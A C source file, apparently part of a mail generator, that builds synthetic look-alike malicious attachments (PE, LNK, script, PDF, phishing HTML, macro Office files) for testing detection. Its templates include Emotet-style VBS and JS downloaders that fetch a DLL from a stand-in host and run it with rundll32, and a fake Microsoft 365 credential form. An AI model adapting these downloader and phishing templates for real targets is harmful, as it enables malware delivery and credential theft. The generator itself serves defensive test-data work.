/* Attachment payloads for the mail generator: small but genuine-looking
 * files of the types targeted mail carries (PE, LNK, JS, VBS, PDF, HTML,
 * macro Office documents), each with random bytes so no two are equal, and
 * zip archives made by the real `zip` and `7z` tools. */
#include "mail/gen_internal.h"

#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void random_bytes(struct mgen_rng *r, struct mgen_buf *b, size_t n)
{
    for (size_t i = 0; i < n; i += 8) {
        uint64_t v = mgen_rand(r);
        mgb_add(b, &v, n - i < 8 ? n - i : 8);
    }
}

static void put_le(unsigned char *p, uint32_t v, int bytes)
{
    for (int i = 0; i < bytes; i++)
        p[i] = (unsigned char)(v >> (8 * i));
}

/* MZ header, DOS stub, PE signature, COFF header and a PE32 optional header
 * for a GUI program: what loaders and libmagic look at. */
static void make_pe(struct mgen_rng *r, struct mgen_buf *b)
{
    unsigned char h[0x200] = {0};
    h[0] = 'M', h[1] = 'Z';
    put_le(h + 0x3C, 0x80, 4);
    memcpy(h + 0x4E, "This program cannot be run in DOS mode.\r\r\n$", 44);
    memcpy(h + 0x80, "PE\0\0", 4);
    put_le(h + 0x84, 0x014C, 2);             /* i386 */
    put_le(h + 0x86, 1, 2);                  /* one section */
    put_le(h + 0x88, 0x5F000000u + (uint32_t)mgen_below(r, 1u << 24), 4);
    put_le(h + 0x94, 0xE0, 2);               /* optional header size */
    put_le(h + 0x96, 0x0102, 2);             /* executable, 32-bit */
    put_le(h + 0x98, 0x010B, 2);             /* PE32 */
    put_le(h + 0x98 + 16, 0x1000, 4);        /* entry point */
    put_le(h + 0x98 + 28, 0x400000, 4);      /* image base */
    put_le(h + 0x98 + 32, 0x1000, 4);        /* section alignment */
    put_le(h + 0x98 + 36, 0x200, 4);         /* file alignment */
    put_le(h + 0x98 + 40, 6, 2);             /* OS version */
    put_le(h + 0x98 + 48, 6, 2);             /* subsystem version */
    put_le(h + 0x98 + 56, 0x3000, 4);        /* image size */
    put_le(h + 0x98 + 60, 0x200, 4);         /* headers size */
    put_le(h + 0x98 + 68, 2, 2);             /* Windows GUI */
    put_le(h + 0x98 + 92, 16, 4);            /* data directories */
    memcpy(h + 0x178, ".text\0\0\0", 8);
    put_le(h + 0x178 + 8, 0x1000, 4);
    put_le(h + 0x178 + 12, 0x1000, 4);
    put_le(h + 0x178 + 16, 0x600, 4);
    put_le(h + 0x178 + 20, 0x200, 4);
    put_le(h + 0x178 + 36, 0x60000020, 4);
    mgb_add(b, h, sizeof h);
    random_bytes(r, b, 0x600 + 512 * mgen_below(r, 8));
}

/* Shell link header: size 0x4C and the ShellLink CLSID. */
static void make_lnk(struct mgen_rng *r, struct mgen_buf *b)
{
    static const unsigned char head[20] = {0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0,
                                           0xC0, 0, 0, 0, 0, 0, 0, 0x46};
    unsigned char h[0x4C] = {0};
    memcpy(h, head, sizeof head);
    put_le(h + 20, 0x000000A5u, 4); /* has target id list, link info, arguments, unicode */
    put_le(h + 24, 0x20, 4);
    put_le(h + 60, 1, 4);           /* show normal */
    mgb_add(b, h, sizeof h);
    mgb_adds(b, "C:\\Windows\\System32\\cmd.exe /c start rundll32 ");
    char tok[33];
    mgen_letters(r, tok, 32, false);
    mgb_adds(b, tok);
    random_bytes(r, b, 64 + mgen_below(r, 200));
}

/* A kit's fixed filler: ~900 letters in comment lines, the same for every
 * file of one kit and different between kits, so ssdeep groups files by
 * the kit that made them (as real builders do), not all scripts together. */
static void kit_filler(struct mgen_buf *b, unsigned kit, const char *open, const char *close)
{
    struct mgen_rng k = {0x51ED270B00000000ULL + kit * 0x9E3779B97F4A7C15ULL + 1};
    for (int line = 0; line < 15; line++) {
        char word[61];
        mgen_letters(&k, word, 60, line % 2);
        mgb_printf(b, "%s%s%s\r\n", open, word, close);
    }
}

static void make_script(struct mgen_rng *r, struct mgen_buf *b, bool vbs, unsigned kit)
{
    char tok[25];
    mgen_letters(r, tok, 24, false);
    /* Downloaders as Emotet's: fetch a DLL, run it with rundll32. */
    if (vbs)
        mgb_printf(b, "On Error Resume Next\r\nDim sh, x\r\nSet sh = WScript.CreateObject(\"WScript.Shell\")\r\n"
                      "Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\n"
                      "x.Open \"GET\", \"https://cdn.example.net/%s\", False\r\nx.Send\r\n"
                      "sh.Run \"rundll32 %%TEMP%%\\%s.dll,DllRegisterServer\", 0\r\n", tok, tok);
    else
        mgb_printf(b, "var sh = new ActiveXObject(\"WScript.Shell\");\r\n"
                      "var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\n"
                      "function fetch(u) { x.open(\"GET\", u, false); x.send(); return x.responseBody; }\r\n"
                      "fetch(\"https://cdn.example.net/%s\");\r\n"
                      "sh.Run(\"rundll32 %%TEMP%%\\\\%s.dll,DllRegisterServer\", 0);\r\n", tok, tok);
    kit_filler(b, kit, vbs ? "' " : "// ", "");
}

static void make_pdf(struct mgen_rng *r, struct mgen_buf *b)
{
    char tok[17];
    mgen_letters(r, tok, 16, true);
    mgb_printf(b, "%%PDF-1.4\n%%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
                 "2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
                 "3 0 obj\n<< /S /URI /URI (https://docs.example.com/%s) >>\nendobj\n"
                 "trailer\n<< /Root 1 0 R >>\n%%%%EOF\n", tok);
}

static void make_html(struct mgen_rng *r, struct mgen_buf *b, unsigned kit)
{
    char tok[17];
    mgen_letters(r, tok, 16, false);
    mgb_printf(b, "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Microsoft 365</title></head>\n"
                 "<body><form action=\"https://login.example.org/%s\" method=\"post\">"
                 "<input type=\"email\" name=\"u\"><input type=\"password\" name=\"p\"></form></body></html>\n",
                 tok);
    kit_filler(b, kit, "<!-- ", " -->");
}

static int read_file(const char *path, struct mgen_buf *out, struct kn_err *err)
{
    FILE *f = fopen(path, "rb");
    if (!f) {
        kn_err_errno(err, path);
        return -1;
    }
    char tmp[65536];
    size_t n;
    while ((n = fread(tmp, 1, sizeof tmp, f)) > 0)
        mgb_add(out, tmp, n);
    fclose(f);
    return 0;
}

/* Runs argv in dir with output discarded; -1 unless it exits 0. */
static int run_in(const char *dir, char *const argv[], struct kn_err *err)
{
    pid_t pid = fork();
    if (pid < 0) {
        kn_err_errno(err, "fork");
        return -1;
    }
    if (pid == 0) {
        int devnull = open("/dev/null", O_WRONLY);
        if (devnull >= 0) {
            dup2(devnull, 1);
            dup2(devnull, 2);
        }
        if (chdir(dir) == 0)
            execvp(argv[0], argv);
        _exit(127);
    }
    int status;
    if (waitpid(pid, &status, 0) < 0 || !WIFEXITED(status) || WEXITSTATUS(status) != 0) {
        kn_err_set(err, "%s failed (status %d); is it installed?", argv[0], status);
        return -1;
    }
    return 0;
}

/* Makes a fresh, empty staging directory under work_dir. */
static int stage_dir(const char *work_dir, char *out, size_t outsz, struct kn_err *err)
{
    static unsigned serial;
    snprintf(out, outsz, "%s/stage%u", work_dir, serial++);
    if (mkdir(out, 0700) < 0) {
        kn_err_errno(err, out);
        return -1;
    }
    return 0;
}

static int remove_one(const char *path, const struct stat *sb, int flag, struct FTW *ftw)
{
    (void)sb, (void)flag, (void)ftw;
    remove(path);
    return 0;
}

/* Removes a staging directory; what cannot be removed stays for the user. */
static void remove_tree(const char *dir)
{
    nftw(dir, remove_one, 8, FTW_DEPTH | FTW_PHYS);
}

/* An OOXML document with a VBA project: what Word/Excel macro files are. */
static int make_ooxml(struct mgen_rng *r, bool excel, const char *work_dir, struct mgen_buf *out, struct kn_err *err)
{
    char dir[512], path[600];
    if (stage_dir(work_dir, dir, sizeof dir, err) < 0)
        return -1;
    const char *part = excel ? "xl" : "word";
    const char *main_ct = excel ? "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
                                : "application/vnd.ms-word.document.macroEnabled.main+xml";
    const char *main_name = excel ? "workbook.xml" : "document.xml";
    struct mgen_buf ct = {0}, rels = {0}, doc = {0}, vba = {0};
    mgb_printf(&ct, "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
                   "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                   "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                   "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                   "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
                   "<Override PartName=\"/%s/%s\" ContentType=\"%s\"/></Types>\n", part, main_name, main_ct);
    mgb_printf(&rels, "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
                     "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                     "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                     "relationships/officeDocument\" Target=\"%s/%s\"/></Relationships>\n", part, main_name);
    char tok[13];
    mgen_letters(r, tok, 12, false);
    mgb_printf(&doc, "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<root>%s</root>\n", tok);
    static const unsigned char ole[8] = {0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1};
    mgb_add(&vba, ole, sizeof ole);
    random_bytes(r, &vba, 2040);
    snprintf(path, sizeof path, "%s/_rels", dir);
    mkdir(path, 0700);
    snprintf(path, sizeof path, "%s/%s", dir, part);
    mkdir(path, 0700);
    int rc = 0;
    char p1[600], p2[600], p3[600], p4[600];
    snprintf(p1, sizeof p1, "%s/[Content_Types].xml", dir);
    snprintf(p2, sizeof p2, "%s/_rels/.rels", dir);
    snprintf(p3, sizeof p3, "%s/%s/%s", dir, part, main_name);
    snprintf(p4, sizeof p4, "%s/%s/vbaProject.bin", dir, part);
    if (mgen_write_file(p1, ct.p, ct.len, err) < 0 || mgen_write_file(p2, rels.p, rels.len, err) < 0 ||
        mgen_write_file(p3, doc.p, doc.len, err) < 0 || mgen_write_file(p4, vba.p, vba.len, err) < 0)
        rc = -1;
    char m3[64], m4[64];
    snprintf(m3, sizeof m3, "%s/%s", part, main_name);
    snprintf(m4, sizeof m4, "%s/vbaProject.bin", part);
    char *argv[] = {(char *)"zip", (char *)"-q", (char *)"-X", (char *)"doc.zip", (char *)"[Content_Types].xml",
                    (char *)"_rels/.rels", m3, m4, NULL};
    snprintf(path, sizeof path, "%s/doc.zip", dir);
    if (rc == 0 && (run_in(dir, argv, err) < 0 || read_file(path, out, err) < 0))
        rc = -1;
    mgb_free(&ct), mgb_free(&rels), mgb_free(&doc), mgb_free(&vba);
    remove_tree(dir);
    return rc;
}

int mgen_payload(enum kn_file_type t, unsigned kit, struct mgen_rng *r, const char *work_dir,
                 struct mgen_buf *out, struct kn_err *err)
{
    switch (t) {
    case KN_FT_PE: make_pe(r, out); return 0;
    case KN_FT_LNK: make_lnk(r, out); return 0;
    case KN_FT_JS: make_script(r, out, false, kit); return 0;
    case KN_FT_VBS: make_script(r, out, true, kit); return 0;
    case KN_FT_PDF: make_pdf(r, out); return 0;
    case KN_FT_HTML: make_html(r, out, kit); return 0;
    case KN_FT_DOCM: return make_ooxml(r, false, work_dir, out, err);
    case KN_FT_XLSM: return make_ooxml(r, true, work_dir, out, err);
    default:
        kn_err_set(err, "generator cannot make a %s file", kn_file_type_name(t));
        return -1;
    }
}

int mgen_zip(const char *work_dir, enum mgen_zip_tool tool, const char *password, const char *const *names,
            const struct mgen_buf *contents, size_t n, struct mgen_buf *out, struct kn_err *err)
{
    char dir[512], path[1024];
    if (n > 8) {
        kn_err_set(err, "too many members");
        return -1;
    }
    if (stage_dir(work_dir, dir, sizeof dir, err) < 0)
        return -1;
    int rc = 0;
    for (size_t i = 0; i < n && rc == 0; i++) {
        snprintf(path, sizeof path, "%s/%s", dir, names[i]);
        rc = mgen_write_file(path, contents[i].p, contents[i].len, err);
    }
    char pw[128];
    char *argv[16];
    size_t k = 0;
    if (tool == MGEN_7Z_AES) {
        snprintf(pw, sizeof pw, "-p%s", password);
        argv[k++] = (char *)"7z", argv[k++] = (char *)"a", argv[k++] = (char *)"-tzip";
        argv[k++] = (char *)"-mem=AES256", argv[k++] = pw, argv[k++] = (char *)"-bd";
    } else {
        argv[k++] = (char *)"zip", argv[k++] = (char *)"-q", argv[k++] = (char *)"-X";
        if (tool == MGEN_ZIP_PASSWORD)
            argv[k++] = (char *)"-P", argv[k++] = (char *)password;
    }
    argv[k++] = (char *)"out.zip";
    for (size_t i = 0; i < n; i++)
        argv[k++] = (char *)names[i];
    argv[k] = NULL;
    snprintf(path, sizeof path, "%s/out.zip", dir);
    if (rc == 0 && (run_in(dir, argv, err) < 0 || read_file(path, out, err) < 0))
        rc = -1;
    remove_tree(dir);
    return rc;
}
